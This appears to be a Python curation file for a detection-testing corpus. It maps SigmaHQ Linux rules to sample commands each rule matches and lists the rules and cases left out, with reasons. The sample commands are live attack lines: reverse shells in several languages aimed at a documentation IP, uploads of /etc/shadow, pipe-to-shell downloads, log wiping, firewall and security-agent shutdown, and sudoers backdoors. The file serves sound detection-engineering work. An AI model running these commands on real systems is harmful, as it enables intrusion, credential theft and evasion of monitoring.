"""Curation of the risky corpus, written by hand and kept apart from the build code so it can be reviewed.

SIGMA_WRITTEN: concrete commands that SigmaHQ's Linux rules (level medium and above) match, one or more per rule,
written for the corpus by reading each rule's detection section. Key: the rule's file name under rules/linux/ (the
build script records its path, id and commit). Rules that match only on a parent process, a syscall or a log record
and not on anything typed are left out, and so are rules whose own false-positive notes describe routine
administration (SIGMA_LEFT_OUT says why for each).
"""

# Every /tmp and /dev/shm path below is text typed into an evaluation session, not a file this code opens.
# ruff: noqa: S108

from __future__ import annotations

SIGMA_WRITTEN: dict[str, list[str]] = {
    "lnx_auditd_binary_padding.yml": [
        "truncate -s +5M /usr/local/bin/payload",
        "dd if=/dev/zero bs=1M count=5 >> ./payload",
    ],
    "lnx_auditd_bpfdoor_port_redirect.yml": [
        "iptables -t nat -I PREROUTING -p tcp --dport 22 -s 10.9.8.7 -j REDIRECT --to-ports 42391"
    ],
    "lnx_auditd_change_file_time_attr.yml": [
        "touch -r /bin/ls /usr/local/bin/backdoor",
        "touch -t 202001010000 /tmp/.x",
    ],
    "lnx_auditd_chattr_immutable_removal.yml": ["chattr -i /etc/passwd"],
    "lnx_auditd_coinminer.yml": ["./xmrig --cpu-priority 5 -o pool.example.net:3333 -u WALLET"],
    "lnx_auditd_data_exfil_wget.yml": ["wget --post-file=/etc/shadow http://203.0.113.5/upload"],
    "lnx_auditd_find_cred_in_files.yml": ["grep -ri password /etc /var/www 2>/dev/null"],
    "lnx_auditd_masquerading_crond.yml": ["cp /bin/sh /tmp/crond"],
    "lnx_auditd_modify_system_firewall.yml": [
        "iptables -A INPUT -p tcp --dport 514 -j DROP",
        "firewall-cmd --remove-service=ssh --permanent",
        "ufw delete allow 22/tcp",
        "nft flush ruleset",
    ],
    "lnx_auditd_susp_cmds.yml": [
        "chmod 777 /etc/cron.d",
        "chmod u+s /tmp/sh",
        "cp /bin/ksh /tmp/.k",
        "cp /bin/sh /tmp/.s",
    ],
    "lnx_auditd_susp_histfile_operations.yml": ["cat ~/.bash_history", "cp /root/.zsh_history /tmp/h"],
    "lnx_auditd_disable_aslr_protection.yml": ["sysctl -w kernel.randomize_va_space=0"],
    "lnx_auditd_keylogging_with_pam_d.yml": [
        "echo 'session required pam_tty_audit.so enable=*' >> /etc/pam.d/system-auth"
    ],
    "lnx_auditd_auditing_config_change.yml": [
        "echo '-e 0' >> /etc/audit/rules.d/audit.rules",
        "vi /etc/audit/auditd.conf",
    ],
    "lnx_auditd_bpfdoor_file_accessed.yml": ["touch /var/run/haldrund.pid"],
    "lnx_auditd_ld_so_preload_mod.yml": ["echo /tmp/libhook.so > /etc/ld.so.preload"],
    "lnx_auditd_logging_config_change.yml": [
        "sed -i 's/^\\*\\.\\*/#*.*/' /etc/rsyslog.conf",
        "vi /etc/syslog-ng/syslog-ng.conf",
    ],
    "lnx_auditd_magic_system_request_key.yml": ["echo 1 > /proc/sys/kernel/sysrq", "echo c > /proc/sysrq-trigger"],
    "lnx_auditd_systemd_service_creation.yml": [
        "cat > /etc/systemd/system/updater.service <<EOF\n[Service]\nExecStart=/tmp/.u\nEOF",
        "cp x.service ~/.config/systemd/user/x.service",
    ],
    "lnx_auditd_unix_shell_configuration_modification.yml": [
        "echo 'nc -e /bin/sh 203.0.113.5 4444 &' >> /etc/profile",
        "echo 'alias sudo=/tmp/.sudo' >> /home/alice/.bashrc",
    ],
    "lnx_auditd_disable_system_firewall.yml": [
        "systemctl stop firewalld",
        "systemctl stop ufw",
        "service iptables stop",
    ],
    "lnx_auditd_create_account.yml": ["useradd -m -s /bin/bash support"],
    "lnx_auditd_load_module_insmod.yml": ["insmod /tmp/diamorphine.ko"],
    "lnx_auditd_susp_exe_folders.yml": ["/tmp/.x/payload", "/var/www/html/uploads/shell"],
    "file_event_lnx_doas_conf_creation.yml": ["echo 'permit nopass keepenv alice as root' > /etc/doas.conf"],
    "file_event_lnx_persistence_sudoers_files.yml": ["echo 'alice ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/alice"],
    "file_event_lnx_susp_filename_with_embedded_base64_command.yml": [
        "touch '/tmp/{echo,Y3VybCAxMC4wLjAuMS94fHNo}|{base64,-d}|bash'"
    ],
    "file_event_lnx_triple_cross_rootkit_lock_file.yml": ["touch /tmp/rootlog"],
    "file_event_lnx_triple_cross_rootkit_persistence.yml": ["cp ./loader /etc/cron.d/ebpfbackdoor"],
    "file_event_lnx_wget_download_file_in_tmp_dir.yml": ["wget http://203.0.113.5/x -P /tmp/"],
    "net_connection_lnx_back_connect_shell_dev.yml": ["bash -i >& /dev/tcp/203.0.113.5/443 0>&1"],
    "net_connection_lnx_crypto_mining_indicators.yml": ["./xmrig -o pool.supportxmr.com:443 -u WALLET -k --tls"],
    "net_connection_lnx_domain_localtonet_tunnel.yml": ["./localtonet authtoken abc123 && ./localtonet"],
    "net_connection_lnx_ngrok_tunnel.yml": ["ngrok tcp 22", "./ngrok http 8080"],
    "net_connection_lnx_susp_malware_callback_port.yml": ["nc 203.0.113.5 4444"],
    "proc_creation_lnx_apt_shell_execution.yml": ["sudo apt-get update -o APT::Update::Pre-Invoke::=/bin/sh"],
    "proc_creation_lnx_auditctl_clear_rules.yml": ["auditctl -D"],
    "proc_creation_lnx_av_kaspersky_av_disabled.yml": ["systemctl stop kesl", "sh -c 'systemctl stop kesl-supervisor'"],
    "proc_creation_lnx_awk_shell_spawn.yml": [
        "awk 'BEGIN {system(\"/bin/sh\")}'",
        "gawk 'BEGIN {system(\"/bin/bash -i\")}'",
    ],
    "proc_creation_lnx_base64_execution.yml": ["echo Y3VybCAtcyBodHRwOi8vMTAuMC4wLjEveCB8IGJhc2gK | base64 -d | bash"],
    "proc_creation_lnx_base64_shebang_cli.yml": ["echo IyEvYmluL2Jhc2gKaWQK | base64 -d > /tmp/run.sh"],
    "proc_creation_lnx_bpf_kprob_tracing_enabled.yml": [
        "echo 1 > /sys/kernel/debug/tracing/events/kprobes/myprobe/enable"
    ],
    "proc_creation_lnx_bpftrace_unsafe_option_usage.yml": [
        "bpftrace --unsafe -e 'uprobe:/bin/bash:readline { system(\"id\") }'"
    ],
    "proc_creation_lnx_capsh_shell_invocation.yml": ["capsh --"],
    "proc_creation_lnx_chattr_immutable_removal.yml": ["chattr -i /var/spool/cron/crontabs/root"],
    "proc_creation_lnx_chmod_targeting_sensitive_directories.yml": ["chmod 777 /tmp/.hidden", "chmod +x /dev/shm/x"],
    "proc_creation_lnx_clear_logs.yml": ["rm -rf /var/log/*", "shred -u /var/log/auth.log", "rm /var/spool/mail/root"],
    "proc_creation_lnx_clear_syslog.yml": [
        "rm -f /var/log/syslog",
        "cp /dev/null /var/log/syslog",
        "ln -sf /dev/null /var/log/syslog",
        "truncate -s 0 /var/log/syslog",
        "mv /var/log/syslog /tmp/s",
        "journalctl --vacuum-time=1s",
    ],
    "proc_creation_lnx_cp_passwd_or_shadow_tmp.yml": ["cp /etc/shadow /tmp/shadow.bak", "cp /etc/passwd /tmp/"],
    "proc_creation_lnx_crontab_removal.yml": ["crontab -r"],
    "proc_creation_lnx_crypto_mining.yml": [
        "./xmrig --donate-level=0 -o stratum+tcp://pool.example.net:3333 -u WALLET",
        "./miner --algo=rx/0 --nicehash -o pool.hashvault.pro:80",
    ],
    "proc_creation_lnx_curl_wget_exec_tmp.yml": [
        "sh -c '/usr/bin/curl -s http://203.0.113.5/x -o /tmp/x; chmod +x /tmp/x; /tmp/x'"
    ],
    "proc_creation_lnx_dd_process_injection.yml": ["dd if=shellcode.bin of=/proc/1234/mem bs=1 seek=$((0x7f1234))"],
    "proc_creation_lnx_disable_ufw.yml": ["ufw disable", "/lib/ufw/ufw-init force-stop"],
    "proc_creation_lnx_env_shell_invocation.yml": ["env /bin/sh", "sudo env /bin/bash"],
    "proc_creation_lnx_esxcli_permission_change_admin.yml": ["esxcli system permission set --id backdoor --role Admin"],
    "proc_creation_lnx_esxcli_syslog_config_change.yml": ["esxcli system syslog config set --logdir=/tmp"],
    "proc_creation_lnx_esxcli_user_account_creation.yml": ["esxcli system account add -i backdoor -p P@ss -c P@ss"],
    "proc_creation_lnx_esxcli_vm_kill.yml": ["esxcli vm process kill --type=force --world-id=12345"],
    "proc_creation_lnx_find_shell_execution.yml": ["find . -exec /bin/sh -p \\; -quit"],
    "proc_creation_lnx_flock_shell_execution.yml": ["flock -u / /bin/sh -p"],
    "proc_creation_lnx_gcc_shell_execution.yml": ["gcc -wrapper /bin/sh,-s ."],
    "proc_creation_lnx_git_shell_execution.yml": ["git -p help config", "sudo git -p help config"],
    "proc_creation_lnx_install_suspicious_packages.yml": ["apt-get install -y nmap socat", "yum install -y netcat"],
    "proc_creation_lnx_iptables_flush_ufw.yml": ["iptables -F ufw-logging-deny", "ip6tables -X ufw6-logging-allow"],
    "proc_creation_lnx_malware_gobrat_grep_payload_discovery.yml": ["ps aux | grep apached", "grep -r frpc /etc/"],
    "proc_creation_lnx_mkfifo_named_pipe_creation_susp_location.yml": [
        "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f"
    ],
    "proc_creation_lnx_mount_hidepid.yml": ["mount -o remount,rw,hidepid=2 /proc"],
    "proc_creation_lnx_netcat_reverse_shell.yml": ["nc -e /bin/sh 203.0.113.5 4444", "ncat 203.0.113.5 4444 -c bash"],
    "proc_creation_lnx_nice_shell_execution.yml": ["nice /bin/sh", "sudo nice /bin/bash"],
    "proc_creation_lnx_nohup_susp_execution.yml": ["nohup /tmp/.x/agent > /dev/null 2>&1 &"],
    "proc_creation_lnx_perl_reverse_shell.yml": [
        'perl -e \'use Socket;$i="203.0.113.5";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\''
    ],
    "proc_creation_lnx_php_reverse_shell.yml": [
        'php -r \'$sock=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");\''
    ],
    "proc_creation_lnx_pnscan_binary_cli_pattern.yml": [
        "./pnscan -t50 -R '6f 73 3a 4c 69 6e 75 78' -W '2a 31 0d 0a' 10.0.0.0/16 6379"
    ],
    "proc_creation_lnx_pua_trufflehog.yml": ["trufflehog git https://github.com/example/repo --results=verified"],
    "proc_creation_lnx_python_base64_encoded_execution.yml": [
        "python3 -c 'import base64;exec(base64.b64decode(\"aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ==\").decode())'"
    ],
    "proc_creation_lnx_python_http_server_execution.yml": [
        "python3 -m http.server 8000",
        "python -m SimpleHTTPServer 80",
    ],
    "proc_creation_lnx_python_pty_spawn.yml": ["python3 -c 'import pty; pty.spawn(\"/bin/bash\")'"],
    "proc_creation_lnx_python_reverse_shell.yml": [
        'python3 -c \'import socket,subprocess,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));'
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\''
    ],
    "proc_creation_lnx_python_shell_os_system.yml": ["python3 -c 'import os; os.system(\"/bin/sh\")'"],
    "proc_creation_lnx_rsync_shell_execution.yml": ["rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null"],
    "proc_creation_lnx_ruby_reverse_shell.yml": [
        'ruby -rsocket -e \'exit if fork;c=TCPSocket.new("203.0.113.5","4444");'
        'loop{c.gets.chomp!;(exit! if $_=="exit");IO.popen($_,"r"){|io|c.print io.read}}\' sh'
    ],
    "proc_creation_lnx_schedule_task_job_cron.yml": ["crontab /tmp/cron.txt"],
    "proc_creation_lnx_security_tools_disabling.yml": [
        "service iptables stop",
        "systemctl disable firewalld",
        "setenforce 0",
        "systemctl stop falcon-sensor",
        "chkconfig cbdaemon off",
    ],
    "proc_creation_lnx_ssh_shell_execution.yml": ["ssh -o ProxyCommand=';sh 0<&2 1>&2' x", "ssh localhost /bin/bash"],
    "proc_creation_lnx_ssm_agent_abuse.yml": [
        "amazon-ssm-agent -register -code 'abc/def' -id 'f1e2d3c4-0000-4a4a-8b8b-0123456789ab' -region 'us-east-1'"
    ],
    "proc_creation_lnx_susp_curl_fileupload.yml": [
        "curl -F 'file=@/etc/passwd' http://203.0.113.5/upload",
        "curl --upload-file /root/backup.tar.gz https://transfer.example.net/",
        "curl -d @/etc/shadow http://203.0.113.5/",
    ],
    "proc_creation_lnx_susp_exec_from_dev_shm.yml": ["/dev/shm/.x"],
    "proc_creation_lnx_susp_execution_tmp_folder.yml": ["/tmp/kinsing"],
    "proc_creation_lnx_susp_find_execution.yml": [
        "find / -perm -4000 -type f 2>/dev/null",
        "find / -perm -u=s 2>/dev/null",
    ],
    "proc_creation_lnx_susp_git_clone.yml": ["git clone https://github.com/example/CVE-2021-4034-poc"],
    "proc_creation_lnx_susp_history_delete.yml": ["rm ~/.bash_history", "shred -u /root/.zsh_history"],
    "proc_creation_lnx_susp_history_recon.yml": ["cat /root/.bash_history", "tail -n 100 /home/alice/.zsh_history"],
    "proc_creation_lnx_susp_hktl_execution.yml": ["./linpeas.sh", "msfconsole -q", "crackmapexec smb 10.0.0.0/24"],
    "proc_creation_lnx_susp_pipe_shell.yml": ["sh -c 'curl -s http://203.0.113.5/i | sh'"],
    "proc_creation_lnx_susp_process_reading_sudoers.yml": ["cat /etc/sudoers", "grep -v '^#' /etc/sudoers"],
    "proc_creation_lnx_susp_recon_indicators.yml": ["find / -name .htpasswd 2>/dev/null", "find / -perm -4000 -ls"],
    "proc_creation_lnx_susp_sensitive_file_access.yml": ["cat /etc/shadow > /tmp/s", "tail /etc/sudoers > /tmp/x"],
    "proc_creation_lnx_susp_shell_script_exec_from_susp_location.yml": ["bash -c /tmp/run.sh", "sh -c 'cd /tmp/; ./x'"],
    "proc_creation_lnx_systemctl_mask_power_settings.yml": [
        "systemctl mask suspend.target hibernate.target hybrid-sleep.target"
    ],
    "proc_creation_lnx_touch_susp.yml": ["touch -t 201901010000 /etc/systemd/system/updater.service"],
    "proc_creation_lnx_triple_cross_rootkit_execve_hijack.yml": ["sudo ./execve_hijack"],
    "proc_creation_lnx_triple_cross_rootkit_install.yml": ["sudo tc qdisc add dev enp0s3 clsact"],
    "proc_creation_lnx_usermod_susp_group.yml": ["usermod -aG root alice", "usermod -aG sudoers alice"],
    "proc_creation_lnx_vim_shell_execution.yml": ["vim -c ':!/bin/sh'", "sudo vi -c ':shell'"],
    "proc_creation_lnx_wget_download_suspicious_directory.yml": ["wget http://203.0.113.5/x -O /tmp/x"],
    "proc_creation_lnx_xterm_reverse_shell.yml": ["xterm -display 203.0.113.5:1"],
}

# Rules not turned into cases, and why.
SIGMA_LEFT_OUT: dict[str, str] = {
    "lnx_auditd_susp_c2_commands.yml": "matches an audit key set by a local audit rule, not a command",
    "lnx_auditd_clean_disable_dmesg_logs_via_syslog.yml": "matches the syslog() syscall, not a command",
    "lnx_auditd_web_rce.yml": "matches the web server's uid executing, not a command",
    "proc_creation_lnx_omigod_scx_runasprovider_executescript.yml": "matches the OMI agent's working directory",
    "proc_creation_lnx_omigod_scx_runasprovider_executeshellcommand.yml": "matches the OMI agent's working directory",
    "proc_creation_lnx_rsync_shell_spawn.yml": "matches rsync as a parent process",
    "proc_creation_lnx_susp_interactive_bash.yml": "matches any child of an interactive bash",
    "proc_creation_lnx_susp_java_children.yml": "matches java as a parent process",
    "proc_creation_lnx_susp_shell_child_process_from_parent_tmp_folder.yml": "matches a parent process in /tmp",
    "proc_creation_lnx_susp_script_interpretor_spawn_credential_scanner.yml": "matches node/bun as a parent process",
    "proc_creation_lnx_webshell_detection.yml": "matches a web server as a parent process",
    "proc_creation_lnx_nohup.yml": "any nohup; the rule's own false positives: administrators",
    "proc_creation_lnx_groupdel.yml": "any groupdel; the rule's own false positives: administrative activity",
    "proc_creation_lnx_userdel.yml": "any userdel; the rule's own false positives: administrative activity",
    "proc_creation_lnx_services_stop_and_disable.yml": "any service stop; its false positives: administrators",
    "proc_creation_lnx_susp_curl_useragent.yml": "any curl -A; the rule's own false positives: scripts and admins",
    "proc_creation_lnx_esxcli_network_discovery.yml": "ESXi inventory listing (esxcli ... list)",
    "proc_creation_lnx_esxcli_storage_discovery.yml": "ESXi inventory listing (esxcli ... list)",
    "proc_creation_lnx_esxcli_system_discovery.yml": "ESXi inventory listing (esxcli ... list)",
    "proc_creation_lnx_esxcli_vm_discovery.yml": "ESXi inventory listing (esxcli ... list)",
    "proc_creation_lnx_esxcli_vsan_discovery.yml": "ESXi inventory listing (esxcli ... list)",
}

# PayloadsAllTheThings code blocks mix the commands typed on the target with program output, configuration files,
# source code, steps run on the attacker's own machine and harmless set-up steps of a longer procedure. These cases
# are left out of the risky corpus, grouped by reason: {reason: {page: "line numbers of the commands' first lines"}}.
PAYLOADS_LEFT_OUT: dict[str, dict[str, str]] = {
    "program output or a file's content, not a command": {
        "linux-privilege-escalation": (
            "225 311 355 356 357 358 359 360 361 376 382 383 393 426 466 479 482 492 "
            "542 543 544 621 622 623 638 639 642 643 644 653 654 655 664 665 707 724"
        ),
        "linux-persistence": "82 83 84 85 86 88 117 118 119 120 121 122",
        "linux-evasion": "42",
        "reverse-shell-cheatsheet": "270",
        "bind-shell-cheatsheet": "35 37 43 45",
    },
    "typed on the attacker's own machine (listener, payload builder, key search) or on Windows": {
        "linux-privilege-escalation": "239 240 241 247 254 556 557 558 597 600 603 604 607 610 731 732",
        "linux-persistence": "24 25 26",
        "reverse-shell-cheatsheet": (
            "69 167 173 280 282 290 294 298 341 342 485 491 497 503 509 510 511 512 513 "
            "514 515 516 517 518 526 528 559 613"
        ),
        "bind-shell-cheatsheet": "89 90 93 94",
    },
    "a harmless step of a longer procedure (terminal set-up, cd, a variable, a look at a file)": {
        "linux-privilege-escalation": "183 233 284 285 286 305 367 368 375 423 474 522 620 735 744 756 757",
        "linux-persistence": "40 43 59 69",
        "linux-evasion": "17 69 74 94 104 106 107",
        "reverse-shell-cheatsheet": "540 541 544 545 548 550 551 552 553",
    },
}

# Benign-source examples that show an offensive behaviour a security team wants to see on a production instance
# (scanning the network, a shell served over a socket, a SOCKS tunnel, switching history off, wiping a disk, hunting
# SUID files). They stay in the corpus but count neither as noise nor as risky; `make eval` lists them apart.
# An entry ending in "/" covers every case of that page.
BENIGN_DUAL_USE: dict[str, list[str]] = {
    "network scanning": ["cheat/nmap/", "man/gawk.1/2477"],
    "a port relayed to another host (socat tunnel)": ["cheat/socat/24"],
    "a shell served over a socket, or its terminal side": ["cheat/socat/36", "cheat/socat/39"],
    "SOCKS tunnel through SSH": ["cheat/ssh/31"],
    "history switched off": ["eg/set/13"],
    "a whole disk overwritten": ["cheat/shred/11"],
    "SUID file hunt": ["cheat/find/17"],
}

# Risky-source cases that are not risky when typed, with the reason for each class. They stay in the corpus but
# count neither as caught nor as missed; `make eval` lists them with the benign sources' dual-use examples. Kept
# few: every other case of a risky source must be caught by a rule.
_SHELLS_STARTED_BY_NAME = (
    "ash", "bash", "csh", "dash", "elvish", "fish", "posh", "pwsh", "rc", "sash", "tcsh", "yash", "zsh", "screen", "sg",
)  # fmt: skip
_SHELL_TYPED_INSIDE = ("ncdu", "ranger", "hping3", "tclsh")
RISKY_NOT_RISKY_WHEN_TYPED: dict[str, list[str]] = {
    "a shell started by name by an unprivileged user (GTFOBins shell, unprivileged): the person already has a shell "
    "of the same account, and a second one (another shell, screen, sg to their own group) gives nothing new": [
        f"gtfobins/{name}/shell/1/unprivileged" for name in _SHELLS_STARTED_BY_NAME
    ],
    "an interactive program opened by an unprivileged user whose GTFOBins shell is a key or a line typed inside it "
    "(ncdu's b, ranger's S, a shell named at hping3's or tclsh's prompt): it opens that user's own shell, and "
    "nothing on the command line differs from ordinary use": [
        f"gtfobins/{name}/shell/1/unprivileged" for name in _SHELL_TYPED_INSIDE
    ],
}
